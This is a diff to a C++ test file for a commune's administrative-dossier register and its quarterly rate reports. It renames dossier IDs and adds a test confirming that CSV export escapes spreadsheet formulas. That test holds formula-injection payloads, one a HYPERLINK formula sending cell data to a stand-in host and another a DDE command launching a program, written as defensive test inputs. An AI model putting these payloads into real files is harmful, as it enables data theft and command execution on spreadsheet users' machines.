@@ -19,31 +19,33 @@ const char* const kRegister =
     "MaHoSo,MaTTHC,KenhThucHien,NgayTiepNhan,NgayHenTra,NgayKetThucXuLy,TrangThai,SoLanYeuCauBoSung,"
     "NgayYeuCauBoSung,NgayHoanThanhBoSung,ChuHoSoSoDinhDanh,ChuHoSoHoTen,HoSoCoThanhPhanSoHoa\n"
     // A: online, component and result scanned, reused (register flag), on time
-    "HS-A,1.001193,2,2025-01-06 08:00,2025-01-09 17:00,2025-01-08 10:00,da_tra_ket_qua,0,,,052095001234,Nguyễn Văn "
+    "000.00.21.H08-250106-0001,1.001193,2,2025-01-06 08:00,2025-01-09 17:00,2025-01-08 "
+    "10:00,da_tra_ket_qua,0,,,052095001234,Nguyễn Văn "
     "An,1\n"
     // B: online, component only, finished late; receipt date written DD/MM/YYYY
-    "HS-B,1.001193,2,06/01/2025 09:00,2025-01-09 17:00,2025-01-10 08:00,da_xu_ly_xong,0,,,,,0\n"
+    "000.00.21.H08-250106-0002,1.001193,2,06/01/2025 09:00,2025-01-09 17:00,2025-01-10 08:00,da_xu_ly_xong,0,,,,,0\n"
     // C: public post, result scanned, component reused (sohoa reuse), on time
-    "HS-C,1.004873,3,2025-02-03,2025-02-05 17:00,2025-02-05 16:00,da_tra_ket_qua,,,,,,\n"
+    "000.00.21.H08-250106-0003,1.004873,3,2025-02-03,2025-02-05 17:00,2025-02-05 16:00,da_tra_ket_qua,,,,,,\n"
     // D: online, no paper result, component scanned
-    "HS-D,1.004222,2,2025-02-10 08:00,2025-02-12 17:00,2025-02-11 09:00,da_xu_ly_xong,0,,,,,\n"
+    "000.00.21.H08-250106-0004,1.004222,2,2025-02-10 08:00,2025-02-12 17:00,2025-02-11 09:00,da_xu_ly_xong,0,,,,,\n"
     // E: no receipt date: left out of everything
-    "HS-E,1.001193,2,,2025-02-12 17:00,,dang_xu_ly,0,,,,,\n"
+    "000.00.21.H08-250106-0005,1.001193,2,,2025-02-12 17:00,,dang_xu_ly,0,,,,,\n"
     // F: finished 3 days late, but waited 3 days for the citizen's supplement: on time
-    "HS-F,1.000656,1,2025-01-06 08:00,2025-01-09 17:00,2025-01-12 10:00,da_xu_ly_xong,1,2025-01-07 09:00,"
+    "000.00.21.H08-250106-0006,1.000656,1,2025-01-06 08:00,2025-01-09 17:00,2025-01-12 "
+    "10:00,da_xu_ly_xong,1,2025-01-07 09:00,"
     "2025-01-10 09:00,,,\n"
     // G: early, but two supplement requests: late
-    "HS-G,1.000656,1,2025-01-13 08:00,2025-01-16 17:00,2025-01-14 08:00,da_xu_ly_xong,2,,,,,\n"
+    "000.00.21.H08-250106-0007,1.000656,1,2025-01-13 08:00,2025-01-16 17:00,2025-01-14 08:00,da_xu_ly_xong,2,,,,,\n"
     // H: unfinished at the end of March, due on the 25th: late; component scanned
-    "HS-H,1.001193,1,2025-03-20 08:00,2025-03-25 17:00,,dang_xu_ly,0,,,,,\n"
+    "000.00.21.H08-250106-0008,1.001193,1,2025-03-20 08:00,2025-03-25 17:00,,dang_xu_ly,0,,,,,\n"
     // I: unfinished at the end of March, due in April: on time (in Q1)
-    "HS-I,1.001193,1,2025-03-28 08:00,2025-04-03 17:00,,dang_xu_ly,0,,,,,\n"
+    "000.00.21.H08-250106-0009,1.001193,1,2025-03-28 08:00,2025-04-03 17:00,,dang_xu_ly,0,,,,,\n"
     // J: received in December, finished in January: in Q1's on-time count only
-    "HS-J,1.001193,1,2024-12-20 08:00,2025-01-05 17:00,2025-01-03 08:00,da_tra_ket_qua,0,,,,,\n"
+    "000.00.21.H08-250106-0010,1.001193,1,2024-12-20 08:00,2025-01-05 17:00,2025-01-03 08:00,da_tra_ket_qua,0,,,,,\n"
     // K: received and finished in 2024: not in Q1 at all
-    "HS-K,1.001193,1,2024-12-01 08:00,2024-12-05 17:00,2024-12-04 08:00,da_tra_ket_qua,0,,,,,\n"
-    "HS-X,1.001193,5,2025-01-06,2025-01-09,,dang_xu_ly,0,,,,,\n"
-    "HS-Y,1.001193,1,2025-02-30,2025-03-02,,dang_xu_ly,0,,,,,\n";
+    "000.00.21.H08-250106-0011,1.001193,1,2024-12-01 08:00,2024-12-05 17:00,2024-12-04 08:00,da_tra_ket_qua,0,,,,,\n"
+    "000.00.21.H08-250106-0024,1.001193,5,2025-01-06,2025-01-09,,dang_xu_ly,0,,,,,\n"
+    "000.00.21.H08-250106-0025,1.001193,1,2025-02-30,2025-03-02,,dang_xu_ly,0,,,,,\n";
 
 void addDocument(RecordStore& store, const std::string& id, const std::string& dossier, const std::string& part) {
   store.db()
@@ -61,14 +63,14 @@ struct Fixture {
     IngestJournal(store).beginSource({0, "feed", "scans/x.pdf", "o", "pdf", 1, 1, false});
     std::istringstream csv(kRegister);
     imported = importRegister(store, csv);
-    addDocument(store, "doc-a1", "HS-A", "component");
-    addDocument(store, "doc-a2", "HS-A", "result");
-    addDocument(store, "doc-b1", "HS-B", "component");
-    addDocument(store, "doc-c2", "HS-C", "result");
-    addDocument(store, "doc-d1", "HS-D", "component");
-    addDocument(store, "doc-h1", "HS-H", "component");
-    addDocument(store, "doc-h0", "HS-H", "receipt");  // a receipt is not a component
-    recordReuse(store, "HS-C", "doc-a2", "clerk");
+    addDocument(store, "doc-a1", "000.00.21.H08-250106-0001", "component");
+    addDocument(store, "doc-a2", "000.00.21.H08-250106-0001", "result");
+    addDocument(store, "doc-b1", "000.00.21.H08-250106-0002", "component");
+    addDocument(store, "doc-c2", "000.00.21.H08-250106-0003", "result");
+    addDocument(store, "doc-d1", "000.00.21.H08-250106-0004", "component");
+    addDocument(store, "doc-h1", "000.00.21.H08-250106-0008", "component");
+    addDocument(store, "doc-h0", "000.00.21.H08-250106-0008", "receipt");  // a receipt is not a component
+    recordReuse(store, "000.00.21.H08-250106-0003", "doc-a2", "clerk");
   }
 };
 
@@ -92,16 +94,17 @@ TEST_CASE("the register imports rows, reports bad ones by line, and updates on a
 
   std::istringstream again(
       "MaHoSo,MaTTHC,KenhThucHien,NgayTiepNhan,NgayHenTra,NgayKetThucXuLy,TrangThai\n"
-      "HS-H,1.001193,1,2025-03-20 08:00,2025-03-25 17:00,2025-03-24 10:00,da_tra_ket_qua\n");
+      "000.00.21.H08-250106-0008,1.001193,1,2025-03-20 08:00,2025-03-25 17:00,2025-03-24 10:00,da_tra_ket_qua\n");
   const auto update = importRegister(fixture.store, again);
   CHECK(update.added == 0);
   CHECK(update.updated == 1);
   const auto report = computeRateReport(fixture.store, *parsePeriod("2025-Q1"));
   checkRate(report.overall[RateKind::OnTime], 7, 9, 77.78);  // H now finished on time
 
-  CHECK_THROWS_WITH(recordReuse(fixture.store, "HS-Z", "doc-a1", "clerk"),
-                    Catch::Contains("no dossier HS-Z in the register"));
-  CHECK_THROWS_WITH(recordReuse(fixture.store, "HS-B", "doc-zz", "clerk"), Catch::Contains("no document doc-zz"));
+  CHECK_THROWS_WITH(recordReuse(fixture.store, "000.00.21.H08-250106-0026", "doc-a1", "clerk"),
+                    Catch::Contains("no dossier 000.00.21.H08-250106-0026 in the register"));
+  CHECK_THROWS_WITH(recordReuse(fixture.store, "000.00.21.H08-250106-0002", "doc-zz", "clerk"),
+                    Catch::Contains("no document doc-zz"));
 }
 
 TEST_CASE("the five rates of the first quarter, worked out by hand", "[indexer][report]") {
@@ -124,10 +127,12 @@ TEST_CASE("the five rates of the first quarter, worked out by hand", "[indexer][
   // taken off), I (unfinished, due after the period), J. Late: B, G (two supplements), H.
   checkRate(report.overall[RateKind::OnTime], 6, 9, 66.67);
   CHECK_FALSE(report.overall[RateKind::OnTime].met);
-  CHECK(report.shortfalls[static_cast<std::size_t>(RateKind::OnTime)] ==
-        std::vector<std::string>{"HS-B", "HS-G", "HS-H"});
+  CHECK(
+      report.shortfalls[static_cast<std::size_t>(RateKind::OnTime)] ==
+      std::vector<std::string>{"000.00.21.H08-250106-0002", "000.00.21.H08-250106-0007", "000.00.21.H08-250106-0008"});
   CHECK(report.shortfalls[static_cast<std::size_t>(RateKind::Digitisation)] ==
-        std::vector<std::string>{"HS-B", "HS-F", "HS-G", "HS-H", "HS-I"});
+        std::vector<std::string>{"000.00.21.H08-250106-0002", "000.00.21.H08-250106-0006", "000.00.21.H08-250106-0007",
+                                 "000.00.21.H08-250106-0008", "000.00.21.H08-250106-0009"});
   CHECK(report.dossiersWithoutReceipt == 1);
 
   // Per procedure: residence (1.004222) has no paper result, so no electronic-result rate.
@@ -199,7 +204,27 @@ TEST_CASE("the report's JSON has the shape tools read, and the HTML page needs n
   const std::string html = rateReportHtml(report);
   CHECK(html.find("<svg") != std::string::npos);
   CHECK(html.find("http") == std::string::npos);  // nothing fetched: no link, script or font from elsewhere
-  CHECK(html.find("HS-H") != std::string::npos);
+  CHECK(html.find("000.00.21.H08-250106-0008") != std::string::npos);
   const std::string csv = rateReportCsv(report);
   CHECK(csv.find("period,2025-Q1,,on_time,6,9,66.67,98.00,no") != std::string::npos);
+}
+
+TEST_CASE("CSV cells that a spreadsheet would run as formulas are written as text", "[indexer][report][hostile]") {
+  Fixture fixture;
+  // The commune's own procedure table names the procedures; a name can be anything typed there.
+  std::istringstream table(
+      "code\tname\tfield\tresult_document\tpaper_result\n"
+      "1.001193\t=HYPERLINK(\"http://x.example/?\"&A1,\"Đăng ký khai sinh\")\tHộ tịch\tGiấy khai sinh\tyes\n"
+      "1.004873\t+cmd|' /C calc'!A0\tHộ tịch\tGiấy xác nhận\tyes\n"
+      "1.000656\t-2+3\tHộ tịch\tTrích lục\tyes\n"
+      "1.004222\t@SUM(1)\tCư trú\tXác nhận\tno\n");
+  replaceProcedures(fixture.store, table);
+  const std::string csv = rateReportCsv(computeRateReport(fixture.store, *parsePeriod("2025-Q1")));
+  INFO(csv);
+  CHECK(csv.find(",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Đăng ký khai sinh\"\")\",") != std::string::npos);
+  CHECK(csv.find(",\"'+cmd|' /C calc'!A0\",") != std::string::npos);
+  CHECK(csv.find(",\"'-2+3\",") != std::string::npos);
+  CHECK(csv.find(",\"'@SUM(1)\",") != std::string::npos);
+  for (const char* formula : {",=", ",+", ",-", ",@", ",\"=", ",\"+", ",\"-", ",\"@"})
+    CHECK(csv.find(formula) == std::string::npos);
 }
